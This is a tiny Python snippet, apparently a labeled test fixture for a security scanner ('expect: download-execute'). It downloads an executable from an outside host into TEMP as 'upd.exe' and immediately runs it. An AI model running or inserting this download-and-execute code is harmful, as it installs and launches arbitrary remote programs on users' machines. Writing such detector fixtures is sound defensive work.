# ruff: noqa
# fmt: off
import os
import subprocess

dest = os.path.join(os.environ["TEMP"], "upd.exe")
subprocess.run(["curl", "-sL", "-o", dest, "https://cdn.example-updates.net/u.exe"], check=True)
subprocess.Popen([dest])  # expect: download-execute
